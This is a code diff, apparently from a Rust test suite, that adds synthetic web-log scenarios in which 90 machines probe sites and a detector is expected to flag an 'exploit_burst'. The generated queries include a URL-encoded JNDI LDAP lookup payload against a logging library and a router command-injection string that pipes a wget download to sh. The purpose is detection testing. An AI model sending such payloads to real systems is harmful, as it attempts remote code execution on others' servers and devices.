@@ -184,3 +184,43 @@ pub fn by_many(seed: u64) -> Scenario {
     let expect = Expectation { requests: 0.8, ..found(BLOG.host, SEARCH, 120.0) };
     Scenario { rows: combined(rows), expect }
 }
+
+/// A weakness that became known today, tried on every site by 90 machines, once or a few times by each.
+fn burst(site: &Site, seed: u64, text: impl Fn(&mut Row, u64)) -> Vec<Row> {
+    let mut draw = Draw::of(seed, 62);
+    let mut rows = Vec::new();
+    for who in 0..90 {
+        let from = START_S + draw.between(0.0, 200.0);
+        let home = home(8_000 + draw.below(2_000), who);
+        let agent = agents::current()[draw.below(20) as usize].clone();
+        let person = Person { home, agent, returns: false };
+        for n in 0..draw.several(1.8, 5) {
+            let mut row = person.asks(site, from + n as f64 * 2.0, "/");
+            text(&mut row, who * 10 + n);
+            rows.push(row);
+        }
+    }
+    hostile(rows)
+}
+
+/// A lookup for a logging library to follow, in the query of the start page.
+pub fn burst_in_queries(seed: u64) -> Scenario {
+    let rows = burst(&SHOP, seed, |row, n| {
+        row.query = Some(format!("x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.{}%2Fa%7D", n % 200));
+    });
+    let rows = together(vec![around(&SHOP, 4.0, 300.0, seed), rows]);
+    let expect = found(SHOP.host, &["exploit_burst"], 150.0);
+    Scenario { rows: combined(rows), expect }
+}
+
+/// A program of a router, asked for with a command: the site has none, and says so or fails.
+pub fn burst_of_commands(seed: u64) -> Scenario {
+    let rows = burst(&BLOG, seed, |row, n| {
+        row.path = "/cgi-bin/luci/;stok=/locale".into();
+        row.query = Some(format!("form=country&country=%24%28wget+http%3A%2F%2Fx{n}%2Fa%7Csh%29"));
+        (row.status, row.bytes) = if n % 3 == 0 { (500, 640) } else { (404, 2_900) };
+    });
+    let rows = together(vec![around(&BLOG, 1.5, 300.0, seed), rows]);
+    let expect = found(BLOG.host, &["exploit_burst"], 150.0);
+    Scenario { rows: combined(rows), expect }
+}
